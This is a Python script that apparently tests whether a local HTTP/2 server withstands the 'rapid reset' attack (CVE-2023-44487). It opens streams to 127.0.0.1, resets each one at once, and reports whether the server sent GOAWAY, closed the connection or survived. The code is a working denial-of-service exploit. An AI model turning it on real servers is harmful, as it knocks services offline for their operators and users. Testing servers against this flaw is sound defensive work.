"""Opens HTTP/2 streams and resets each at once (CVE-2023-44487, rapid reset).

Usage: h2_rapid_reset.py PORT COUNT
Prints "goaway <error code>" if the server sent GOAWAY, "closed" if it just closed, or
"survived" if all COUNT resets went through without either."""
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events

port, count = int(sys.argv[1]), int(sys.argv[2])
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port), timeout=5)
sock = context.wrap_socket(raw, server_hostname="localhost")
connection = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
connection.initiate_connection()
sock.sendall(connection.data_to_send())
headers = [(":method", "GET"), (":path", "/api/reset"), (":scheme", "https"), (":authority", "localhost")]


def check():
    sock.settimeout(0.05)
    try:
        data = sock.recv(65536)
    except socket.timeout:
        return None
    except (ssl.SSLError, ConnectionError, OSError):
        return "closed"
    if not data:
        return "closed"
    for event in connection.receive_data(data):
        if isinstance(event, h2.events.ConnectionTerminated):
            return f"goaway {event.error_code}"
    return None


try:
    for index in range(count):
        stream = 1 + 2 * index
        connection.send_headers(stream, headers, end_stream=True)
        connection.reset_stream(stream)
        sock.sendall(connection.data_to_send())
        if index % 20 == 19:
            outcome = check()
            if outcome:
                print(outcome)
                sys.exit(0)
    for _ in range(20):
        outcome = check()
        if outcome:
            print(outcome)
            sys.exit(0)
    print("survived")
except (ssl.SSLError, ConnectionError, OSError, h2.exceptions.ProtocolError):
    print("closed")
